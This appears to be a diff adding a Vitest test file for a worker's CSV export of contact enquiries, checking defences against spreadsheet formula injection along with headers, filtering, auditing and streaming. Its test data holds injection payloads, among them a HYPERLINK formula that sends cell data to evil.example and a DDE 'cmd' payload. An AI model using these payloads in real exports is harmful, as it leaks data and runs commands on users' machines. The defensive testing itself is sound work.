@@ -1,0 +1,241 @@
+import { parse } from 'csv-parse/sync'
+import { expect, test } from 'vitest'
+import { breakAfter } from '#worker/test/break-after.ts'
+import { OPERATOR_TOKEN, serveWorker } from '#worker/test/serve-worker.ts'
+import { storeContacts } from '#worker/test/store-contacts.ts'
+import { guard, streamCsv } from './csv.ts'
+
+const worker = serveWorker()
+
+type Row = Record<string, string>
+
+const headers = { Authorization: `Bearer ${OPERATOR_TOKEN}` }
+const csv = (query = '') =>
+  worker.fetch(`/api/contacts${query}`, { headers: { ...headers, Accept: 'text/csv' } })
+
+const unguard = (cell: string) => cell.replace(/^'/, '')
+const parseCsv = (text: string): Row[] => parse(text, { columns: true, bom: true })
+const parseUnguarded = (text: string): Row[] =>
+  parse(text, { columns: true, bom: true, cast: unguard })
+
+async function store(messages: string[], status: 'new' | 'done' = 'new') {
+  await storeContacts(await worker.database(), messages.length, (n) => ({
+    id: `${status}-${n}`,
+    reference: `LF-${status}-${n}`,
+    name: 'Ada',
+    email: 'ada@lovelace.example',
+    message: messages[n - 1] ?? '',
+    status,
+    createdAt: '2026-11-20T12:00:00.000Z',
+  }))
+}
+
+const executable = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t1',
+  '\r1',
+  '=HYPERLINK("http://evil.example?x="&A1,"here")',
+  "=cmd|' /C calc'!A0",
+  ' =1+1',
+  '\n=1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u202e=1+1',
+  '\u0000=1+1',
+  '\u0301=1+1',
+  ' \t\r\n \u2028=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '﹦1+1',
+  '−1',
+]
+const quoted = ["'", "'=1+1", "''", "'tis"]
+const plain = [
+  '',
+  'a=b',
+  'Ada',
+  '1-2',
+  '"=1+1"',
+  '"',
+  'a,b;c',
+  'a\r\n=1+1',
+  'a\nb',
+  " '=1+1",
+  '界 👋',
+]
+
+test.each(executable)('guards the formula %j', (cell) => {
+  expect(guard(cell)).toBe(`'${cell}`)
+})
+
+test.each(quoted)('guards %j, which begins as a guarded cell does', (cell) => {
+  expect(guard(cell)).toBe(`'${cell}`)
+})
+
+test.each(plain)('leaves %j as it is', (cell) => {
+  expect(guard(cell)).toBe(cell)
+})
+
+test('hands out every enquiry once, newest first, equal after one guard is dropped', async () => {
+  const messages = Array.from({ length: 20 }, () => [...executable, ...quoted, ...plain]).flat()
+  await store(messages)
+
+  const response = await csv()
+  const text = await response.text()
+
+  const rows = parseUnguarded(text)
+  expect(messages.length).toBeGreaterThan(600)
+  expect(rows.map(({ message }) => message)).toEqual(messages.toReversed())
+  expect(rows.map(({ id }) => id)).toEqual(messages.map((_, at) => `new-${messages.length - at}`))
+  for (const cell of parseCsv(text).flatMap((row) => Object.values(row))) {
+    expect(cell).not.toMatch(/^[\s\p{C}\p{M}]*[=+\-@＝＋－＠]|^[\t\r]/u)
+  }
+})
+
+test('sends a file for Excel and names it by the day', async () => {
+  await store(['Grüße'])
+
+  const response = await csv()
+  const bytes = new Uint8Array(await response.arrayBuffer())
+
+  const today = new Date().toISOString().slice(0, 10)
+  expect(response.status).toBe(200)
+  expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present')
+  expect(response.headers.get('Content-Disposition')).toBe(
+    `attachment; filename="enquiries-${today}.csv"`,
+  )
+  expect(response.headers.get('Cache-Control')).toBe('no-store')
+  expect(response.headers.get('Vary')).toBe('Accept, Authorization')
+  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  expect(new TextDecoder().decode(bytes)).toBe(
+    `"id","reference","status","createdAt","statusAt","name","email","serviceInterest","message","note","reasons"\r\n${''}"new-1","LF-new-1","new","2026-11-20T12:00:00.000Z","2026-11-20T12:00:00.000Z","Ada","ada@lovelace.example",,"Grüße",,\r\n`,
+  )
+})
+
+test('sends the line of names alone when nothing is found', async () => {
+  expect(await (await csv()).text()).toMatch(/^"id",.*"reasons"\r\n$/)
+})
+
+test.each([
+  ['?status=done', ['done-2', 'done-1']],
+  ['?q=planet', ['done-2', 'new-1']],
+  ['?q=planet&status=new', ['new-1']],
+  ['?q=…', []],
+  ['?format=csv&q=comet', ['done-1']],
+])('hands out what %s finds, and puts its number into the audit', async (query, ids) => {
+  await store(['A planet', 'A star'])
+  await store(['A comet', 'Planets'], 'done')
+
+  const rows = parseUnguarded(await (await csv(query)).text())
+
+  expect(rows.map(({ id }) => id)).toEqual(ids)
+  expect(await lastAudit()).toEqual({
+    actor: 'token',
+    action: 'export',
+    contact_ids: '[]',
+    count: ids.length,
+  })
+})
+
+test('answers ?format=csv whatever is accepted, as a link in a browser needs it', async () => {
+  const accept = { Accept: 'text/html,*/*;q=0.8' }
+  const response = await worker.fetch('/api/contacts?format=csv', {
+    headers: { ...headers, ...accept },
+  })
+
+  expect(response.headers.get('Content-Type')).toMatch('text/csv')
+})
+
+test.each(['limit=10', 'cursor=x', 'format=xml', 'page=2'])(
+  'refuses %s rather than to send another file than asked',
+  async (parameter) => {
+    const response = await csv(`?${parameter}`)
+
+    expect(response.status).toBe(422)
+    expect(Object.keys((await refusal(response)).fields)).toEqual([parameter.split('=')[0]])
+  },
+)
+
+test.each(['audit', 'contact_count'])(
+  'answers 503 with Retry-After when %s fails before the first byte',
+  async (table) => {
+    const { status, headers } = await withoutTable(table, () => csv())
+
+    expect(status).toBe(503)
+    expect(headers.get('Retry-After')).toBe('30')
+    expect(headers.get('Content-Disposition')).toBeNull()
+  },
+)
+
+test('breaks off when a page fails, and does not end as if it were complete', async () => {
+  await store(Array.from({ length: 401 }, () => 'Hi'))
+  const pages = streamCsv(breakAfter(await worker.database(), 2), {}).getReader()
+
+  expect(parse(decode(await pages.read()), { bom: true })).toHaveLength(1)
+  expect(parse(decode(await pages.read()))).toHaveLength(200)
+  expect(parse(decode(await pages.read()))).toHaveLength(200)
+  await expect(pages.read()).rejects.toMatchObject({ status: 503 })
+})
+
+test('breaks the connection when storage fails while the file is on its way', async () => {
+  await store(Array.from({ length: 1000 }, () => 'm'.repeat(10_000)))
+
+  const response = await csv()
+  const reader = response.body?.getReader()
+  await reader?.read()
+
+  await worker.withoutStorage(() =>
+    expect(
+      (async () => {
+        for (;;) if ((await reader?.read())?.done) return 'complete'
+      })(),
+    ).rejects.toThrow(),
+  )
+})
+
+test('reads no page before the receiver has taken the one before', async () => {
+  await store(Array.from({ length: 601 }, () => 'Hi'))
+  let queries = 0
+  const db = breakAfter(await worker.database(), Number.POSITIVE_INFINITY, () => queries++)
+
+  const reader = streamCsv(db, {}).getReader()
+  const reads: number[] = []
+  for (let page = 0; page < 4; page++) {
+    await reader.read()
+    reads.push(queries)
+  }
+  await reader.cancel()
+
+  expect(reads).toEqual([0, 1, 2, 3])
+})
+
+function decode({ value }: { value?: Uint8Array | undefined }): string {
+  return new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(value)
+}
+
+async function refusal(response: { json: () => Promise<unknown> }) {
+  return ((await response.json()) as { error: { fields: Record<string, string> } }).error
+}
+
+async function lastAudit() {
+  return (await worker.database())
+    .prepare('SELECT actor, action, contact_ids, count FROM audit ORDER BY seq DESC LIMIT 1')
+    .first()
+}
+
+async function withoutTable<T>(table: string, action: () => Promise<T>): Promise<T> {
+  const db = await worker.database()
+  await db.exec(`ALTER TABLE ${table} RENAME TO ${table}_away`)
+  try {
+    return await action()
+  } finally {
+    await db.exec(`ALTER TABLE ${table}_away RENAME TO ${table}`)
+  }
+}
